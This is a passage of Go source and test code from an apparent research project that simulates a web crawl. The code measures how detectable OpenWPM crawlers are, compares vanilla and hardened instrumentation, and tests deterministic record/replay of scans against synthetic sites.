	t.Rows = append(t.Rows, row)
}

// String renders the table as aligned ASCII.
func (t *Table) String() string {
	var b strings.Builder
	fmt.Fprintf(&b, "%s — %s\n", t.ID, t.Title)
	widths := make([]int, len(t.Header))
	for i, h := range t.Header {
		widths[i] = len(h)
	}
	for _, r := range t.Rows {
		for i, c := range r {
			if i < len(widths) && len(c) > widths[i] {
				widths[i] = len(c)
			}
		}
	}
	line := func(cells []string) {
		for i, c := range cells {
			if i > 0 {
				b.WriteString("  ")
			}
			fmt.Fprintf(&b, "%-*s", widths[min(i, len(widths)-1)], c)
		}
		b.WriteByte('\n')
	}
	line(t.Header)
	var sep []string
	for _, w := range widths {
		sep = append(sep, strings.Repeat("-", w))
	}
	line(sep)
	for _, r := range t.Rows {
		line(r)
	}
	for _, n := range t.Notes {
		fmt.Fprintf(&b, "note: %s\n", n)
	}
	return b.String()
}

func min(a, b int) int {
	if a < b {
		return a
	}
	return b
}

func pct(part, whole int) string {
	if whole == 0 {
		return "0.00%"
	}
	return fmt.Sprintf("%.2f%%", 100*float64(part)/float64(whole))
}

func diffPct(base, val int) string {
	if base == 0 {
		return "n/a"
	}
	d := 100 * (float64(val) - float64(base)) / float64(base)
	return fmt.Sprintf("%+.2f%%", d)
}

func check(b bool) string {
	if b {
		return "✓"
	}
	return "–"
}
