package experiments

import (
	"strings"
	"testing"

	"gullible/internal/websim"
)

// scanFixture runs one shared mid-scale scan for all scan-table tests.
var scanFixture *ScanResult

func getScan(t *testing.T) *ScanResult {
	t.Helper()
	if testing.Short() {
		t.Skip("shared full synthetic-web crawl fixture; skipped in -short mode (set WPM_FULL_RACE=1 in verify.sh for the long tier)")
	}
	if scanFixture == nil {
		world := websim.New(websim.Options{Seed: 42, NumSites: 2000})
		scanFixture = RunScan(world, 2000, 3, nil)
	}
	return scanFixture
}

func TestScanShapeMatchesTable5(t *testing.T) {
	r := getScan(t)

	// ground truth from the generator at this scan's scale: the analysis
	// pipeline must recover what the generator deployed. (The paper's
	// absolute 14%/19% rates hold at the full 100K because detector
	// probability declines with rank; a top-2K scan sees higher rates.)
	var gtFrontStatic, gtFrontDynamic, gtStatic, gtDynamic, gtUnion, gtFrontUnion int
	for rank := 1; rank <= r.NumSites; rank++ {
		s := r.World.Site(rank)
		if !s.HasAnyDetector() {
			continue
		}
		// first-party bot managers and OpenWPM-specific tags run on the
		// front page; CSP sites block the vanilla JS instrument, so dynamic
		// analysis cannot see them (Sec. 5.1.2). The AST tamper pass folds
		// constructed property names, so concat-obfuscated probes
		// (VisDynamicOnly detectors, non-cheqzone OpenWPM tags) are now
		// static-visible too: every deployed detector is statically readable.
		det := s.FrontDetector || s.SubDetector
		static := det || s.FirstParty != "" || s.OpenWPMHost != ""
		dynamic := !s.HasCSP && ((det && s.Visibility != websim.VisStaticOnly) ||
			s.FirstParty != "" || s.OpenWPMHost != "")
		frontStatic := s.FrontDetector || s.FirstParty != "" || s.OpenWPMHost != ""
		frontDynamic := !s.HasCSP && ((s.FrontDetector && s.Visibility != websim.VisStaticOnly) ||
			s.FirstParty != "" || s.OpenWPMHost != "")
		if static {
			gtStatic++
		}
		if dynamic {
			gtDynamic++
		}
		if frontStatic {
			gtFrontStatic++
		}
		if frontDynamic {
			gtFrontDynamic++
		}
		if static || dynamic {
			gtUnion++
		}
		if frontStatic || frontDynamic {
			gtFrontUnion++
		}
	}
	within := func(name string, got, want int) {
		t.Helper()
		tol := want / 6
		if got < want-tol || got > want+tol {
			t.Errorf("%s = %d, generator ground truth %d", name, got, want)
		}
	}
	frontUnion := union(r.FrontStaticClean, r.FrontDynamicClean)
	fullUnion := union(r.StaticClean, r.DynamicClean)
	within("front static clean", len(r.FrontStaticClean), gtFrontStatic)
	within("front dynamic clean", len(r.FrontDynamicClean), gtFrontDynamic)
	within("static clean", len(r.StaticClean), gtStatic)
	within("dynamic clean", len(r.DynamicClean), gtDynamic)
	within("union", len(fullUnion), gtUnion)
	within("front union", len(frontUnion), gtFrontUnion)

	if len(fullUnion) <= len(frontUnion) {
		t.Error("subpage crawling must increase detector exposure")
	}
	// raw static has heavy false positives (Table 5: 32.7K raw vs 15.8K clean)
	if len(r.StaticRaw) <= len(r.StaticClean)*13/10 {
		t.Errorf("raw static (%d) should far exceed clean static (%d)", len(r.StaticRaw), len(r.StaticClean))
	}
	// raw dynamic exceeds clean dynamic (iterators → inconclusive)
	if len(r.DynamicRaw) <= len(r.DynamicClean) {
		t.Errorf("raw dynamic (%d) should exceed clean dynamic (%d)", len(r.DynamicRaw), len(r.DynamicClean))
	}
	// The AST pass closed the static blind spot, so static subsumes dynamic
	// (up to attribution noise) and the union tracks static; dynamic alone
	// still misses CSP-blocked and interaction-gated sites, so the union
	// strictly exceeds it.
	if len(fullUnion) > len(r.StaticClean)+gtStatic/20 {
		t.Errorf("union (%d) should track static clean (%d) now that the AST pass sees obfuscated probes",
			len(fullUnion), len(r.StaticClean))
	}
	if len(fullUnion) <= len(r.DynamicClean) {
		t.Error("union should exceed dynamic (CSP and hover-gated sites are static-only)")
	}
}

func TestScanFindsOpenWPMSpecificDetectors(t *testing.T) {
	r := getScan(t)
	cz := r.OpenWPMProbes[websim.HostCheqzone]
	if len(cz) == 0 || len(cz["jsInstruments"]) == 0 {
		t.Errorf("cheqzone probes not observed: %v", cz)
	}
	// obfuscated providers are still caught dynamically
	total := 0
	for _, markers := range r.OpenWPMProbes {
		for _, sites := range markers {
			total += len(sites)
		}
	}
	if total == 0 {
		t.Fatal("no OpenWPM-specific probes at all")
	}
}

func TestScanThirdPartyInclusions(t *testing.T) {
	r := getScan(t)
	if len(r.ThirdPartyInclusions) == 0 {
		t.Fatal("no third-party detector inclusions recorded")
	}
	// the Table 7 heavyweights should dominate
	counts := map[string]int{}
	total := 0
	for dom, sites := range r.ThirdPartyInclusions {
		counts[dom] = len(sites)
		total += len(sites)
	}
	if counts["yandex.ru"] == 0 {
		t.Error("yandex.ru absent from inclusions")
	}
	top := sortedKeysByCount(counts)
	if counts[top[0]] < total/12 {
		t.Errorf("top inclusion domain %q carries too little weight (%d of %d)", top[0], counts[top[0]], total)
	}
}

func TestScanFirstPartyAttribution(t *testing.T) {
	r := getScan(t)
	tbl := Table12(r)
	out := tbl.String()
	for _, p := range []string{"Akamai", "Incapsula"} {
		if !strings.Contains(out, p) {
			t.Errorf("Table 12 missing provider %s:\n%s", p, out)
		}
	}
}

func TestScanTablesRender(t *testing.T) {
	r := getScan(t)
	for _, tbl := range []*Table{
		Table5(r), Table6(r), Table7(r), Table11(r), Table12(r), Table13(r),
		Figure3(r), Figure4(r), Figure5(r),
	} {
		s := tbl.String()
		if len(s) < 40 || !strings.Contains(s, tbl.ID) {
			t.Errorf("%s rendered poorly:\n%s", tbl.ID, s)
		}
		if len(tbl.Rows) == 0 {
			t.Errorf("%s has no rows", tbl.ID)
		}
	}
}

func TestTable13FalsePositivePattern(t *testing.T) {
	r := getScan(t)
	tbl := Table13(r)
	// the naive "webdriver" pattern must show false positives; the
	// context-aware navigator.webdriver pattern must not
	var naiveFP, contextFP string
	for _, row := range tbl.Rows {
		switch row[0] {
		case "webdriver":
			naiveFP = row[2]
		case "navigator.webdriver":
			contextFP = row[2]
		}
	}
	if naiveFP != "✓" {
		t.Errorf("naive pattern FP marker = %q, want ✓", naiveFP)
	}
	if contextFP != "–" {
		t.Errorf("context-aware pattern FP marker = %q, want –", contextFP)
	}
}

// comparison fixture: small but statistically meaningful.
var compareFixture *CompareResult

func getCompare(t *testing.T) *CompareResult {
	t.Helper()
	if testing.Short() {
		t.Skip("shared full synthetic-web crawl fixture; skipped in -short mode (set WPM_FULL_RACE=1 in verify.sh for the long tier)")
	}
	if compareFixture == nil {
		world := websim.New(websim.Options{Seed: 42, NumSites: 4000})
		sites := DetectorSiteSample(world, 150)
		if len(sites) < 100 {
			t.Fatalf("only %d detector sites in sample", len(sites))
		}
		compareFixture = RunComparison(world, sites, 3, nil)
	}
	return compareFixture
}

func TestComparisonShapeTables8To10(t *testing.T) {
	c := getCompare(t)
	for i, run := range c.Runs {
		wByType := run.WPM.RequestsByType()
		hByType := run.Hide.RequestsByType()
		// WPM_hide: no instrumentation-induced CSP reports → strictly fewer
		if hByType["csp_report"] >= wByType["csp_report"] {
			t.Errorf("r%d: csp_report WPM=%d hide=%d, want WPM ≫ hide", i+1, wByType["csp_report"], hByType["csp_report"])
		}
		// more total traffic for the hidden variant
		wTot, hTot := 0, 0
		for _, v := range wByType {
			wTot += v
		}
		for _, v := range hByType {
			hTot += v
		}
		if hTot <= wTot {
			t.Errorf("r%d: total requests WPM=%d hide=%d, want hide > WPM", i+1, wTot, hTot)
		}
		// more cookies for the hidden variant
		fw, tw := cookieSplit(run.WPM)
		fh, th := cookieSplit(run.Hide)
		if fh+th <= fw+tw {
			t.Errorf("r%d: cookies WPM=%d hide=%d, want hide > WPM", i+1, fw+tw, fh+th)
		}
	}
	// tracking cookies: strong increase for the hidden variant (Table 10)
	trkW := len(trackingCookies(c, 0, true))
	trkH := len(trackingCookies(c, 0, false))
	if trkH <= trkW {
		t.Errorf("tracking cookies WPM=%d hide=%d, want hide ≫ WPM", trkW, trkH)
	}
}

func TestComparisonAdTrackerTraffic(t *testing.T) {
	c := getCompare(t)
	el := websim.EasyList()
	for i, run := range c.Runs {
		var w, h int
		for _, r := range run.WPM.Requests {
			if el.Match(r.URL) {
				w++
			}
		}
		for _, r := range run.Hide.Requests {
			if el.Match(r.URL) {
				h++
			}
		}
		if h <= w {
			t.Errorf("r%d: EasyList requests WPM=%d hide=%d, want hide > WPM", i+1, w, h)
		}
	}
}

func TestFigure6Coverage(t *testing.T) {
	c := getCompare(t)
	run := c.Runs[0]
	w := run.WPM.JSCallsBySymbol()
	h := run.Hide.JSCallsBySymbol()
	// Screen.availLeft is accessed mostly at frame-creation time → vanilla
	// misses a large share; Screen.top is accessed delayed → near-full
	// coverage.
	if h["Screen.availLeft"] == 0 || h["Screen.top"] == 0 {
		t.Fatalf("viewability calls missing: availLeft=%d top=%d", h["Screen.availLeft"], h["Screen.top"])
	}
	covLeft := float64(w["Screen.availLeft"]) / float64(h["Screen.availLeft"])
	covTop := float64(w["Screen.top"]) / float64(h["Screen.top"])
	if covLeft >= 0.95 {
		t.Errorf("Screen.availLeft coverage = %.2f, want well below 1 (paper: 63%%)", covLeft)
	}
	if covTop < 0.90 {
		t.Errorf("Screen.top coverage = %.2f, want ≈ 1 (paper: 99%%)", covTop)
	}
	if covTop <= covLeft {
		t.Errorf("coverage ordering wrong: top %.2f should exceed availLeft %.2f", covTop, covLeft)
	}
}

func TestComparisonTablesRender(t *testing.T) {
	c := getCompare(t)
	for _, tbl := range []*Table{Table8(c), Table9(c), Table10(c), Figure6(c)} {
		s := tbl.String()
		if len(tbl.Rows) == 0 || !strings.Contains(s, tbl.ID) {
			t.Errorf("%s rendered poorly:\n%s", tbl.ID, s)
		}
	}
}

func TestFingerprintTables(t *testing.T) {
	t2 := Table2(90)
	out := t2.String()
	for _, frag := range []string{"2037", "2061", "18", "27", "+252", "+253", "43"} {
		if !strings.Contains(out, frag) {
			t.Errorf("Table 2 missing %q:\n%s", frag, out)
		}
	}
	t3 := Table3()
	if !strings.Contains(t3.String(), "2560 x 1440") || !strings.Contains(t3.String(), "1366 x 683") {
		t.Errorf("Table 3 missing geometry:\n%s", t3.String())
	}
	t4 := Table4()
	if !strings.Contains(t4.String(), "VMware") || !strings.Contains(t4.String(), "Null") {
		t.Errorf("Table 4 missing vendors:\n%s", t4.String())
	}
	f2 := Figure2()
	rows := f2.Rows
	if rows[0][1] != "false" || rows[1][1] != "true" || rows[2][1] != "false" {
		t.Errorf("Figure 2 pollution rows wrong:\n%s", f2.String())
	}
	dv := DetectorValidation()
	out = dv.String()
	if !strings.Contains(out, "OpenWPM") {
		t.Errorf("detector validation:\n%s", out)
	}
	for _, row := range dv.Rows {
		isOpenWPM := strings.HasPrefix(row[0], "OpenWPM")
		if isOpenWPM && row[1] != "✓" {
			t.Errorf("detector missed %s", row[0])
		}
		if !isOpenWPM && row[1] != "–" {
			t.Errorf("detector false positive on %s", row[0])
		}
	}
}

func TestStudyTables(t *testing.T) {
	t1 := Table1()
	if len(t1.Rows) < 12 {
		t.Errorf("Table 1 too small:\n%s", t1.String())
	}
	t14 := Table14()
	if !strings.Contains(t14.String(), "0.17.0") || !strings.Contains(strings.Join(t14.Notes, " "), "outdated") {
		t.Errorf("Table 14:\n%s", t14.String())
	}
	t15 := Table15()
	if len(t15.Rows) != 72 {
		t.Errorf("Table 15 rows = %d, want 72", len(t15.Rows))
	}
}
