package experiments

import (
	"strconv"
	"strings"
	"testing"

	"gullible/internal/websim"
)

func TestAblationMethods(t *testing.T) {
	if testing.Short() {
		t.Skip("full synthetic-web crawl; skipped in -short mode (verify.sh races the whole repo short, the long tier runs it in full)")
	}
	world := websim.New(websim.Options{Seed: 11, NumSites: 400})
	tbl := AblationMethods(world, 400)
	if len(tbl.Rows) != 5 {
		t.Fatalf("rows = %d:\n%s", len(tbl.Rows), tbl.String())
	}
	found := func(rowIdx int) int {
		n, err := strconv.Atoi(tbl.Rows[rowIdx][1])
		if err != nil {
			t.Fatalf("bad cell %q", tbl.Rows[rowIdx][1])
		}
		return n
	}
	static, dynamic, dynInter, combined, interactive := found(0), found(1), found(2), found(3), found(4)
	if combined < static || combined < dynamic {
		t.Errorf("combined (%d) must dominate static (%d) and dynamic (%d)", combined, static, dynamic)
	}
	if interactive < combined {
		t.Errorf("interaction (%d) must not lose sites vs combined (%d)", interactive, combined)
	}
	// interaction executes hover-gated detectors → strictly more dynamic
	// coverage at this scale (static-only sites exist by calibration)
	if dynInter <= dynamic {
		t.Errorf("dynamic+interaction (%d) should exceed dynamic alone (%d)", dynInter, dynamic)
	}
	if !strings.Contains(tbl.String(), "recall") {
		t.Error("table missing recall column")
	}
}
