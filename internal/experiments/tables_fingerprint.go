package experiments

import (
	"fmt"

	"gullible/internal/fingerprint"
	"gullible/internal/httpsim"
	"gullible/internal/jsdom"
	"gullible/internal/openwpm"
	"gullible/internal/stealth"
)

// setups enumerates the OpenWPM configurations of Table 2.
var setups = []struct {
	Label string
	OS    jsdom.OS
	Mode  jsdom.Mode
}{
	{"macOS RM", jsdom.MacOS, jsdom.Regular},
	{"macOS HM", jsdom.MacOS, jsdom.Headless},
	{"Ubuntu RM", jsdom.Ubuntu, jsdom.Regular},
	{"Ubuntu HM", jsdom.Ubuntu, jsdom.Headless},
	{"Ubuntu Xvfb", jsdom.Ubuntu, jsdom.Xvfb},
	{"Docker RM", jsdom.Ubuntu, jsdom.Docker},
}

// blankTransport serves an empty page for instrumentation measurements.
var blankTransport = httpsim.RoundTripperFunc(func(req *httpsim.Request) (*httpsim.Response, error) {
	return &httpsim.Response{Status: 200, Headers: map[string]string{"Content-Type": "text/html"}, Body: "<html></html>"}, nil
})

// instrumentedTop visits a blank page with the given instrumentation and
// returns the resulting top realm.
func instrumentedTop(os jsdom.OS, mode jsdom.Mode, useStealth bool) *jsdom.DOM {
	cfg := openwpm.CrawlConfig{
		OS: os, Mode: mode, Transport: blankTransport, DwellSeconds: 1,
		JSInstrument: !useStealth,
	}
	if useStealth {
		cfg.Stealth = stealth.New()
	}
	tm := openwpm.NewTaskManager(cfg)
	b := tm.NewBrowser()
	if _, err := b.Visit("https://probe.test/"); err != nil {
		panic(err)
	}
	return b.Top
}

// Table2 measures the deviating properties of each OpenWPM setup against a
// plain Firefox baseline on the same OS.
func Table2(ffVersion int) *Table {
	t := &Table{
		ID:     "Table 2",
		Title:  fmt.Sprintf("Deviating properties per OpenWPM setup vs plain Firefox %d", ffVersion),
		Header: []string{"property", "macOS RM", "macOS HM", "Ubuntu RM", "Ubuntu HM", "Ubuntu Xvfb", "Docker RM"},
	}
	var reports []fingerprint.SurfaceReport
	for _, s := range setups {
		base := jsdom.Build(jsdom.BaselineConfig(s.OS, ffVersion), &jsdom.NopHost{}, "https://probe.test/")
		client := jsdom.Build(jsdom.StandardConfig(s.OS, s.Mode, ffVersion, 0), &jsdom.NopHost{}, "https://probe.test/")
		reports = append(reports, fingerprint.MeasureSurface(base, client))
	}
	row := func(label string, f func(r fingerprint.SurfaceReport) any) {
		cells := []any{label}
		for _, r := range reports {
			cells = append(cells, f(r))
		}
		t.AddRow(cells...)
	}
	row("navigator.webdriver is true", func(r fingerprint.SurfaceReport) any { return check(r.WebdriverTrue) })
	row("screen dimension prop.", func(r fingerprint.SurfaceReport) any { return check(r.ScreenDimsDeviate) })
	row("screen position prop.", func(r fingerprint.SurfaceReport) any { return check(r.ScreenPosDeviate) })
	row("font enumeration", func(r fingerprint.SurfaceReport) any { return check(r.FontEnumDeviates) })
	row("timezone is 0", func(r fingerprint.SurfaceReport) any { return check(r.TimezoneZero) })
	row("navigator.languages prop.", func(r fingerprint.SurfaceReport) any {
		if r.LanguagesAdded == 0 {
			return "–"
		}
		return r.LanguagesAdded
	})
	row("deviating WebGL prop.", func(r fingerprint.SurfaceReport) any {
		if r.WebGLDeviations == 0 {
			return "–"
		}
		return r.WebGLDeviations
	})

	// instrumentation rows: tampered natives + added custom functions
	tampered := []any{"- through tampering"}
	added := []any{"- added custom functions"}
	for _, s := range setups {
		top := instrumentedTop(s.OS, s.Mode, false)
		tampered = append(tampered, fmt.Sprintf("+%d", fingerprint.CountTamperedAPIs(top)))
		base := jsdom.Build(jsdom.BaselineConfig(s.OS, ffVersion), &jsdom.NopHost{}, "https://probe.test/")
		r := fingerprint.MeasureSurface(base, top)
		added = append(added, fmt.Sprintf("+%d", len(r.AddedWindowGlobals)))
	}
	t.AddRow("With instrumentation:")
	t.AddRow(tampered...)
	t.AddRow(added...)
	t.Notes = append(t.Notes, "paper (Firefox 90): WebGL 2037 (macOS HM), 2061 (Ubuntu HM), 18 (Xvfb), 27 (Docker); languages +43 (HM); tampering +253 macOS / +252 Ubuntu; +1 custom function")
	return t
}

// Table3 reads the screen properties per configuration.
func Table3() *Table {
	t := &Table{
		ID:     "Table 3",
		Title:  "Screen properties for various configurations",
		Header: []string{"OS", "mode", "resolution", "window", "X", "Y", "offset (x,y)"},
	}
	for _, s := range setups {
		cfg := jsdom.StandardConfig(s.OS, s.Mode, 90, 0)
		d := jsdom.Build(cfg, &jsdom.NopHost{}, "https://probe.test/")
		get := func(expr string) int {
			v, _ := d.It.RunScript(expr, "probe.js")
			return int(v.ToNumber())
		}
		t.AddRow(s.OS.String(), s.Mode.String(),
			fmt.Sprintf("%d x %d", get("screen.width"), get("screen.height")),
			fmt.Sprintf("%d x %d", get("window.innerWidth"), get("window.innerHeight")),
			get("window.screenX"), get("window.screenY"),
			fmt.Sprintf("%d, %d", cfg.OffsetX, cfg.OffsetY))
	}
	return t
}

// Table4 probes WebGL vendor strings and avail geometry on the Ubuntu modes.
func Table4() *Table {
	t := &Table{
		ID:     "Table 4",
		Title:  "Selected deviations, Ubuntu no-display modes",
		Header: []string{"mode", "WebGL vendor/renderer", "avail{Top,Left}"},
	}
	for _, mode := range []jsdom.Mode{jsdom.Regular, jsdom.Headless, jsdom.Xvfb, jsdom.Docker} {
		d := jsdom.Build(jsdom.StandardConfig(jsdom.Ubuntu, mode, 90, 0), &jsdom.NopHost{}, "https://probe.test/")
		probes := fingerprint.RunProbes(d, fingerprint.DefaultProbes)
		vendor := probes["webgl.vendor"]
		if vendor == "null" {
			vendor = "Null"
		} else {
			vendor += " " + probes["webgl.renderer"]
		}
		t.AddRow(mode.String(), vendor, probes["screen.availTop"]+", "+probes["screen.availLeft"])
	}
	return t
}

// Figure2 demonstrates the prototype pollution of the vanilla instrument
// against the clean chain (left/right of the paper's Figure 2).
func Figure2() *Table {
	t := &Table{
		ID:     "Figure 2",
		Title:  "Prototype pollution: own properties of document's first prototype",
		Header: []string{"client", "HTMLDocument.prototype owns 'cookie'", "Document.prototype owns 'cookie'"},
	}
	probe := func(d *jsdom.DOM) (string, string) {
		v1, _ := d.It.RunScript(`Object.getPrototypeOf(document).hasOwnProperty("cookie")`, "p.js")
		v2, _ := d.It.RunScript(`Document.prototype.hasOwnProperty("cookie")`, "p.js")
		return v1.ToString(), v2.ToString()
	}
	clean := jsdom.Build(jsdom.BaselineConfig(jsdom.Ubuntu, 90), &jsdom.NopHost{}, "https://probe.test/")
	a, b := probe(clean)
	t.AddRow("(A) original object", a, b)
	vanilla := instrumentedTop(jsdom.Ubuntu, jsdom.Regular, false)
	a, b = probe(vanilla)
	t.AddRow("(B) polluted by instrumentation", a, b)
	hardened := instrumentedTop(jsdom.Ubuntu, jsdom.Regular, true)
	a, b = probe(hardened)
	t.AddRow("WPM_hide (per-prototype hooks)", a, b)
	return t
}

// DetectorValidation reproduces the Sec. 3.3 validation: the four-strategy
// detector must identify every OpenWPM setup and no baseline browser.
func DetectorValidation() *Table {
	t := &Table{
		ID:     "Sec. 3.3",
		Title:  "Fingerprint-surface detector validation",
		Header: []string{"client", "detected", "findings"},
	}
	det := fingerprint.Detector{}
	for _, s := range setups {
		d := jsdom.Build(jsdom.StandardConfig(s.OS, s.Mode, 90, 0), &jsdom.NopHost{}, "https://probe.test/")
		fs := det.Detect(d)
		t.AddRow("OpenWPM "+s.Label, check(len(fs) > 0), len(fs))
	}
	for _, os := range []jsdom.OS{jsdom.MacOS, jsdom.Ubuntu} {
		d := jsdom.Build(jsdom.BaselineConfig(os, 90), &jsdom.NopHost{}, "https://probe.test/")
		fs := det.Detect(d)
		t.AddRow("consumer Firefox "+os.String(), check(len(fs) > 0), len(fs))
	}
	st := instrumentedTop(jsdom.Ubuntu, jsdom.Regular, true)
	fs := det.Detect(st)
	t.AddRow("WPM_hide (regular mode)", check(len(fs) > 0), len(fs))
	return t
}
