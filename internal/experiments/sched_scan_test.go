package experiments

import (
	"sync"
	"testing"

	"gullible/internal/bundle"
	"gullible/internal/faults"
	"gullible/internal/websim"
)

// TestScanAlwaysReportsCompletion: the old progress loop only fired on
// n%1000 == 0, so any scan whose size wasn't a multiple of 1000 never
// reported completion. Every scan must end with exactly one (total, total)
// event.
func TestScanAlwaysReportsCompletion(t *testing.T) {
	const n = 30
	world := websim.New(websim.Options{Seed: 7, NumSites: n})
	var mu sync.Mutex
	var events [][2]int
	_, err := RunScanObserved(world, n, ScanOptions{MaxSubpages: 1, Workers: 2},
		ProgressFunc(func(done, total int) {
			mu.Lock()
			events = append(events, [2]int{done, total})
			mu.Unlock()
		}))
	if err != nil {
		t.Fatalf("RunScanObserved: %v", err)
	}
	if len(events) == 0 {
		t.Fatal("scan reported no progress at all")
	}
	finals := 0
	for _, ev := range events {
		if ev == [2]int{n, n} {
			finals++
		}
	}
	if finals != 1 {
		t.Fatalf("scan reported completion %d times in %v, want exactly once", finals, events)
	}
	if events[len(events)-1] != [2]int{n, n} {
		t.Fatalf("last progress event is %v, want (%d, %d)", events[len(events)-1], n, n)
	}
}

// TestScanWorkersClampToSites: requesting more workers than sites must clamp
// to the site count, not collapse to a single worker.
func TestScanWorkersClampToSites(t *testing.T) {
	world := websim.New(websim.Options{Seed: 7, NumSites: 5})
	r, err := RunScanObserved(world, 5, ScanOptions{MaxSubpages: 1, Workers: 8}, nil)
	if err != nil {
		t.Fatalf("RunScanObserved: %v", err)
	}
	if r.Workers != 5 {
		t.Fatalf("scan of 5 sites with 8 requested workers used %d, want 5", r.Workers)
	}
}

// TestShardedRecordReplayMatchesSerial is the PR's acceptance scenario:
// recording with four workers yields a merged archive whose storage digest
// matches the serial run's, and replaying that archive — serially or
// resharded — reproduces the same JS tallies and digest byte for byte.
func TestShardedRecordReplayMatchesSerial(t *testing.T) {
	if testing.Short() {
		t.Skip("full synthetic-web crawl; skipped in -short mode (verify.sh races the whole repo short, the long tier runs it in full)")
	}
	const n = 40
	meta := map[string]string{"scenario": "sched-scan"}
	scan := func(opts ScanOptions) *ScanResult {
		world := websim.New(websim.Options{Seed: 13, NumSites: n})
		r, err := RunScanObserved(world, n, opts, nil)
		if err != nil {
			t.Fatalf("RunScanObserved(workers=%d): %v", opts.Workers, err)
		}
		return r
	}

	serial := scan(ScanOptions{MaxSubpages: 1, Workers: 1, RecordBundle: true, BundleMeta: meta})
	digest := serial.Storage.Digest()
	jsCalls := len(serial.Storage.JSCalls)

	sharded := scan(ScanOptions{MaxSubpages: 1, Workers: 4, RecordBundle: true, BundleMeta: meta})
	if sharded.Workers != 4 {
		t.Fatalf("sharded scan used %d workers, want 4", sharded.Workers)
	}
	if got := sharded.Storage.Digest(); got != digest {
		t.Fatalf("sharded storage digest %s differs from serial %s", got, digest)
	}
	if serial.Report.String() != sharded.Report.String() {
		t.Fatalf("sharded report diverges from serial:\nserial:\n%s\nsharded:\n%s",
			serial.Report, sharded.Report)
	}
	if serial.Bundle.Digest != sharded.Bundle.Digest {
		t.Fatalf("merged bundle digest %s differs from serial recording %s",
			sharded.Bundle.Digest, serial.Bundle.Digest)
	}
	if err := sharded.Bundle.Verify(); err != nil {
		t.Fatalf("merged bundle fails verification: %v", err)
	}

	// serial replay of the 4-worker merged archive
	_, tm, rt := bundle.ReplayCrawl(sharded.Bundle, bundle.MissFail, nil)
	if rt.Misses != 0 {
		t.Fatalf("serial replay of merged bundle missed %d requests", rt.Misses)
	}
	if got := tm.Storage.Digest(); got != digest {
		t.Fatalf("serial replay digest %s differs from recording %s", got, digest)
	}
	if got := len(tm.Storage.JSCalls); got != jsCalls {
		t.Fatalf("serial replay recorded %d JS calls, recording had %d", got, jsCalls)
	}

	// resharded replay: 3 workers over a bundle recorded at 4
	world := websim.New(websim.Options{Seed: 13, NumSites: n})
	replayed, err := RunScanObserved(world, n, ScanOptions{
		MaxSubpages: 1, Workers: 3,
		ReplayBundle: sharded.Bundle, MissPolicy: bundle.MissFail,
	}, nil)
	if err != nil {
		t.Fatalf("resharded replay: %v", err)
	}
	if got := replayed.Storage.Digest(); got != digest {
		t.Fatalf("resharded replay digest %s differs from recording %s", got, digest)
	}
	if got := len(replayed.Storage.JSCalls); got != jsCalls {
		t.Fatalf("resharded replay recorded %d JS calls, recording had %d", got, jsCalls)
	}
}

// TestShardedReplayLocalisesStorageDrops: storage-fault drop positions are
// bundle-global write sequence numbers; a sharded replay must offset each
// shard's cursor by the preceding shards' write totals so every drop lands on
// the same write it hit during recording.
func TestShardedReplayLocalisesStorageDrops(t *testing.T) {
	if testing.Short() {
		t.Skip("full synthetic-web crawl; skipped in -short mode (verify.sh races the whole repo short, the long tier runs it in full)")
	}
	const n = 30
	profile := faults.Profile{StoragePerMille: 150}
	world := websim.New(websim.Options{Seed: 21, NumSites: n})
	rec, err := RunScanObserved(world, n, ScanOptions{
		MaxSubpages: 1, Workers: 2,
		FaultProfile: &profile, FaultSeed: 9,
		RecordBundle: true, BundleMeta: map[string]string{"scenario": "storage-faults"},
	}, nil)
	if err != nil {
		t.Fatalf("recording scan: %v", err)
	}
	if rec.Report.DroppedWrites == 0 {
		t.Fatal("storage-fault profile injected no drops — test exercises nothing")
	}
	digest := rec.Storage.Digest()

	// serial replay reproduces the drops at their global positions
	_, tm, _ := bundle.ReplayCrawl(rec.Bundle, bundle.MissFail, nil)
	if got := tm.Storage.Digest(); got != digest {
		t.Fatalf("serial replay digest %s differs from faulted recording %s", got, digest)
	}

	// sharded replay at a worker count different from the recording's
	world2 := websim.New(websim.Options{Seed: 21, NumSites: n})
	replayed, err := RunScanObserved(world2, n, ScanOptions{
		MaxSubpages: 1, Workers: 3,
		ReplayBundle: rec.Bundle, MissPolicy: bundle.MissFail,
	}, nil)
	if err != nil {
		t.Fatalf("sharded replay: %v", err)
	}
	if got := replayed.Storage.Digest(); got != digest {
		t.Fatalf("sharded replay digest %s differs from faulted recording %s", got, digest)
	}
	if got := replayed.Report.DroppedWrites; got != rec.Report.DroppedWrites {
		t.Fatalf("sharded replay dropped %d writes, recording dropped %d", got, rec.Report.DroppedWrites)
	}
}
