package experiments

import (
	"testing"

	"gullible/internal/bundle"
	"gullible/internal/faults"
)

func TestRunBundleDiffStealthVariantDiverges(t *testing.T) {
	r, err := RunBundleDiff(3, BundleDiffOptions{NumSites: 12, MaxSubpages: 1, Variant: "stealth"})
	if err != nil {
		t.Fatalf("RunBundleDiff: %v", err)
	}
	if err := r.Base.Verify(); err != nil {
		t.Fatalf("base bundle failed verification: %v", err)
	}
	if err := r.Replay.Verify(); err != nil {
		t.Fatalf("replay bundle failed verification: %v", err)
	}
	if r.Diff.Empty() {
		t.Fatal("stealth variant replay produced an empty diff — the observers should diverge")
	}
	if len(r.Diff.ConfigChanges) == 0 {
		t.Fatalf("diff missed the stealth config change:\n%s", r.Diff)
	}
	// the hardened instrument masks automation markers and removes the honey
	// properties, so per-symbol JS tallies must differ on some visit
	symbols := 0
	for _, v := range r.Diff.Visits {
		symbols += len(v.JSSymbols)
	}
	if symbols == 0 {
		t.Fatalf("stealth variant changed no JS-symbol tallies:\n%s", r.Diff)
	}
	if r.Hits == 0 {
		t.Fatal("variant replay never hit the archive")
	}
	if got := TableBundleDiff(r).String(); got == "" {
		t.Fatal("TableBundleDiff rendered nothing")
	}
}

func TestRunBundleDiffUnderFaults(t *testing.T) {
	p := faults.DefaultProfile()
	r, err := RunBundleDiff(9, BundleDiffOptions{
		NumSites: 10, MaxSubpages: 1, Variant: "nohoney",
		FaultProfile: &p, FaultSeed: 77,
		MissPolicy: bundle.MissSynthesize404,
	})
	if err != nil {
		t.Fatalf("RunBundleDiff: %v", err)
	}
	if r.Diff.Empty() {
		t.Fatal("nohoney variant under faults produced an empty diff")
	}
	if !r.BaseRep.Accounted() || !r.VarRep.Accounted() {
		t.Fatal("a crawl report lost sites")
	}
}

func TestRunBundleDiffRejectsUnknownVariant(t *testing.T) {
